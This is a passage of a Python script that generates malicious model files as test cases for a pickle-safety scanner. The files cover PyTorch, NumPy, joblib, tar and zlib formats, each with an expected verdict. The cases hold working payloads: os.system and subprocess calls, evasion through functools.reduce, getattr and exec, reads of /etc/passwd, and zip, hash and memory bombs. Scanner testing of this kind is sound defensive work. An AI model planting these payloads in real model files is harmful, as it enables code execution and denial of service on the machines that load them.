case("torch_zip_encrypted_flag", (lambda z: z.replace(b"PK\x01\x02\x14\x03\x14\x00\x00\x00", b"PK\x01\x02\x14\x03\x14\x00\x01\x00", 1))(Z), C, "the encryption flag in the central directory alone", ext="pt")
case("torch_zip_local_name_differs", edit(Z, [(b"archive/data.pkl", b"archive/data.txt")]), C, "the local header has another name than the central directory", ext="pt")
case("torch_zip_no_directory", Z[:Z.index(b"PK\x01\x02")], C, "no central directory", ext="pt")
case("torch_zip_hidden_local", make_zip([("archive/data.pkl", ATTACK2)])[: make_zip([("archive/data.pkl", ATTACK2)]).index(b"PK\x01\x02")] + make_zip([("archive/data.pkl", BENIGN), ("archive/version", b"3\n")]), C, "a local member that the directory does not list", ext="pt")
case("zip_bomb", make_zip([("archive/data.pkl", b"\x80\x02" + b"N0" * 20_000_000 + ATTACK2[2:])], compression=zipfile.ZIP_DEFLATED), C, "40 MB of nothing, deflated, then the attack", "unsafe", ext="pt")
case("zip_in_zip", make_zip([("inner.zip", make_zip([("x.pkl", ATTACK4)]))]), C, "a zip in a zip", ext="zip")
MAGIC, VER = b"\x8a\nl\xfc\x9cF\xf9 j\xa8P\x19.", b"M\xe9\x03."
SYSINFO = p2(b"}(" + us("protocol_version") + b"M\xe9\x03" + us("little_endian") + b"\x88" + us("type_sizes") + b"}u")
case("torch_legacy", b"\x80\x02" + MAGIC + b"\x80\x02" + VER + SYSINFO + ATTACK2 + p2(b"]"), C, "a legacy PyTorch checkpoint", ext="pt")
case("torch_legacy_in_keys", b"\x80\x02" + MAGIC + b"\x80\x02" + VER + SYSINFO + p2(b"}") + ATTACK2, C, "the attack in the list of storage keys", ext="pt")
case("torch_legacy_in_magic", p2(call(SYSTEM, CMDU) + b"0" + MAGIC[:-1]) + b"\x80\x02" + VER + SYSINFO + p2(b"}") + p2(b"]"), C, "the attack before the magic number", ext="pt")
def npy(body, descr="'|O'"):
    h = ("{'descr': %s, 'fortran_order': False, 'shape': (1,), }" % descr).encode(); h += b" " * (63 - (10 + len(h)) % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(h)) + h + body
case("npy_object", npy(ATTACK2), C, "an object array in .npy", ext="npy")
case("npy_object_structured", npy(ATTACK2, "[('a', '|O'), ('b', '<i4')]"), C, "a structured array with an object field", ext="npy")
case("npy_plain_with_tail", npy(b"\0" * 8, "'<i8'") + ATTACK2, C, "a plain array, then a pickle", "unsafe", ext="npy")
case("npz_object", make_zip([("a.npy", npy(b"\0" * 8, "'<i8'")), ("b.npy", npy(ATTACK2))]), C, "the second array of an .npz", ext="npz")
case("npz_pickle_member", make_zip([("a.npy", ATTACK2)]), C, "a pickle as a member of .npz (numpy.load falls back to it)", ext="npz")
case("joblib_plain", ATTACK4, C, "a pickle called .joblib", ext="joblib")
WRAPPER = glob("joblib.numpy_pickle", "NumpyArrayWrapper") + b")\x81}(" + us("subclass") + glob("numpy", "ndarray") + us("shape") + b"K\x01\x85" + us("order") + us("C") + us("dtype") + call(glob("numpy", "dtype"), us("O8"), b"\x89", b"\x88") + us("allow_mmap") + b"\x89ub"
case("joblib_object_array", proto(3) + WRAPPER + ATTACK2 + b".", C, "the pickle of an object array inside a joblib file", ext="joblib")
case("joblib_after_array", proto(3) + b"](" + WRAPPER.replace(us("O8"), us("i8")) + b"\x00" + bytes(8) + call(SYSTEM, CMDU) + b"e.", C, "the call after the raw bytes of an array", ext="joblib")
case("joblib_zlib", zlib.compress(ATTACK4), C, "a compressed .joblib", ext="joblib")
def make_tar(members, mode="w"):
    f = io.BytesIO()
    with tarfile.open(fileobj=f, mode=mode) as t:
        for n, d in members: i = tarfile.TarInfo(n); i.size = len(d); t.addfile(i, io.BytesIO(d))
    return f.getvalue()
case("tar", make_tar([("model/a.txt", b"hello"), ("model/weights.pkl", ATTACK4)]), C, "a tar file", ext="tar")
case("tar_gz", gzip.compress(make_tar([("weights.bin", ATTACK2)]), mtime=0), C, "a gzipped tar file", ext="tar.gz")
case("tar_pickle_extensionless", make_tar([("weights", ATTACK2)]), C, "a member without an extension", ext="tar")
case("sevenzip", b"7z\xbc\xaf\x27\x1c\x00\x04" + os.urandom(0) + bytes(range(64)), C, "7z: cannot look inside", "unsafe", ext="7z")
case("keras_lambda_h5", b"\x89HDF\r\n\x1a\n" + bytes(64) + base64.b64encode(ATTACK4), C, "an HDF5 file called .pkl", "unsafe")
case("safetensors_fake", le8(2) + b"{}" + ATTACK4, C, "a pickle behind a safetensors header", "unsafe", ext="safetensors.pkl")

# ---- 15. what is harmless in one use, in another -------------------------------------------------------------------------
C = "misuse"
ns = lambda key, value: sg("types", "SimpleNamespace") + b")R}" + su(key) + value + b"sb"
case("reduce_lookup", p4(sg("functools", "reduce")), C, "functools.reduce is handed to the loading program")
case("reduce_getattr", p4(call(sg("functools", "reduce"), sg("builtins", "getattr"), b"](" + su("a") + su("b") + b"e")), C, "functools.reduce of getattr")
case("reduce_newobj", p4(sg("functools", "reduce") + tup(su(CMD)) + b"\x81"), C, "NEWOBJ on functools.reduce")
case("reduce_in_map", p4(call(sg("builtins", "map"), sg("functools", "reduce"), b"]" + su(CMD) + b"a")), C, "functools.reduce is handed to map", "unsafe")
case("getattr_in_defaultdict", p4(call(sg("collections", "defaultdict"), sg("builtins", "getattr"))), C, "getattr is the factory of a defaultdict")
case("reconstructor_in_partial", p4(call(sg("functools", "partial"), sg("copyreg", "_reconstructor"), sg("builtins", "object"))), C, "copyreg._reconstructor is kept to be called later")
case("reconstructor_lookup", p4(sg("copyreg", "_reconstructor")), C, "copyreg._reconstructor is handed to the loading program")
case("vectorize_eval", p4(call(sg("numpy", "vectorize"), sg("builtins", "len"))), C, "numpy.vectorize is called on a function")
case("memmap_call", p4(call(sg("numpy", "memmap"), su("/etc/passwd"))), C, "numpy.memmap opens a file")
case("memmap_newobj", p4(sg("numpy", "memmap") + tup(su("/etc/passwd")) + b"\x81"), C, "NEWOBJ of numpy.memmap opens a file")
case("memmap_reconstructor", p4(call(sg("copyreg", "_reconstructor"), sg("numpy", "memmap"), sg("builtins", "object"), b"N")), C, "numpy.memmap as the class of copyreg._reconstructor", "unsafe")
case("state_array_interface", p4(ns("__array_interface__", b"}")), C, "an attribute by which NumPy reads any memory", "unsafe")
case("state_class", p4(sg("collections", "UserDict") + b")\x81N}" + su("__class__") + sg("collections", "UserList") + b"s\x86b"), C, "the slots of a state change the class", "unsafe")
case("state_ordereddict", p4(ns("a", b"N") + b"0" + sg("types", "SimpleNamespace") + b")R" + call(sg("collections", "OrderedDict"), b"](" + su("__class__") + sg("builtins", "int") + b"\x86e") + b"b"), C, "the state is a dict that a call makes", "unsafe")
case("namespace_mapping", p4(call(sg("types", "SimpleNamespace"), b"}" + su("__class__") + sg("builtins", "int") + b"s")), C, "attributes of a SimpleNamespace by its call, Python 3.13", "unsafe")
case("attribute_of_text", p4(call(call(sg("builtins", "getattr"), su("{0.__class__}"), su("format")), k(1))), C, "format looks up attributes", "unsafe")
case("attribute_new", p4(call(call(sg("functools", "partial"), call(sg("builtins", "getattr"), sg("evil", "C"), su("__new__")), sg("evil", "C")))), C, "__new__ of an unknown class, called through partial", "unsafe")
case("join_of_text", p4(call(call(sg("builtins", "getattr"), su(""), su("join")), b"](" + su("o") + su("s") + b"e") + su("system") + b"\x93" + tup(su(CMD)) + b"R"), C, "str.join computes a module name")
case("encode_computes", p4(call(sg("_codecs", "encode"), su("os"), su("latin1")) + su("system") + b"\x93" + tup(su(CMD)) + b"R"), C, "_codecs.encode computes a module name")
case("map_exec", p4(call(sg("builtins", "list"), call(sg("builtins", "map"), sg("builtins", "exec"), b"]" + su("pass") + b"a"))), C, "exec is handed to map")
case("persistent_module", p2(call(tup(us("module"), glob("subprocess", "Popen"), us("f"), us("source")) + b"Q", CMDU)), C, "a class by PyTorch's persistent id is called")
PAIRS = lambda depth: su("a") + b"\x94" + b"".join(b"h" + bytes([n]) + b"h" + bytes([n]) + b"\x86\x94" for n in range(depth))
case("hash_bomb_key", p4(PAIRS(60) + b"q\xff0}h\xffNs"), C, "a key of 2**60 shared tuples, whose hash never ends", "unsafe")
case("hash_bomb_set", p4(PAIRS(60) + b"q\xff0\x8f(h\xff\x90"), C, "a set member whose hash never ends", "unsafe")
case("memo_index", b"Nr\xff\xff\xff\xff.", C, "a memo number that makes CPython reserve 64 GB", "unsafe")
case("str_of_shared", p4(b"]\x94K\x01a" + b"".join(b"](h" + bytes([n]) + b"h" + bytes([n]) + b"e\x94" for n in range(60)) + b"q\xff0" + call(sg("builtins", "str"), b"h\xff")), C, "the text of 2**60 shared lists", "unsafe")
case("zlib_then_pickle", zlib.compress(BENIGN) + ATTACK0, C, "a pickle behind a zlib stream", ext="z")
case("zlib_twice", zlib.compress(BENIGN) + zlib.compress(ATTACK4), C, "a second zlib stream", "unsafe", ext="z")

def main(out):
    os.makedirs(out, exist_ok=True)
    index = []
    for name, data, klass, expect, reason in CASES:
        with open(os.path.join(out, name), "wb") as f: f.write(data)
        index.append({"file": name, "class": klass, "expect": expect, "reason": reason})
    with open(os.path.join(out, "index.json"), "w") as f: json.dump(index, f, indent=1)
    import collections
    print(len(index), "attacks", dict(collections.Counter(c["class"] for c in index)))

if __name__ == "__main__":
    main(sys.argv[1])
